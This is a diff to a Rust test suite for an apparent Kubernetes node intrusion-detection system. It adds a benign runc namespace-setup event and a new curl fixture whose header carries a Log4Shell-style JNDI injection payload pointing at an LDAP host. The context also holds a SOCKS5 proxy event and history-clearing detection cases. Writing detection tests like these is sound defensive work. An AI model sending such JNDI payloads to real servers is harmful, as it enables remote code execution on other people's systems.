@@ -131,6 +131,14 @@ fn unshare(in_container: bool) -> NodeEvent {
     event
 }
 
+/// runc setting up a new container's namespaces from inside the container's cgroup.
+fn runc_init() -> NodeEvent {
+    let mut event = unshare(true);
+    event.executable = Some("/usr/bin/runc".into());
+    event.comm = "runc:[1:CHILD]".into();
+    event
+}
+
 const O_WRONLY: i64 = 0o1;
 const O_TRUNC: i64 = 0o1000;
 
@@ -146,7 +154,7 @@ fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
     let mut socks5 = net(NetSend, "python3", "203.0.113.9", 1080, Some(&[5, 1, 0]));
     socks5.in_container = true;
     vec![
-        ("K8S.NODE_NamespaceCreation", vec![unshare(true)], vec![unshare(false)]),
+        ("K8S.NODE_NamespaceCreation", vec![unshare(true)], vec![unshare(false), runc_init()]),
         (
             "K8S.NODE_HistoryFileCleared",
             vec![
@@ -214,6 +222,7 @@ fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
                 exec("curl -s http://10.0.0.5/health"),
                 exec("curl -o /opt/app/x.tar.gz https://example.com/x.tar.gz"),
                 exec("curl -o /tmp/x.tar.gz http://169.254.169.254/latest"),
+                exec("curl -H X-Api-Version:${jndi:ldap://203.0.113.5/a} http://127.0.0.1:1/"),
             ],
         ),
         (
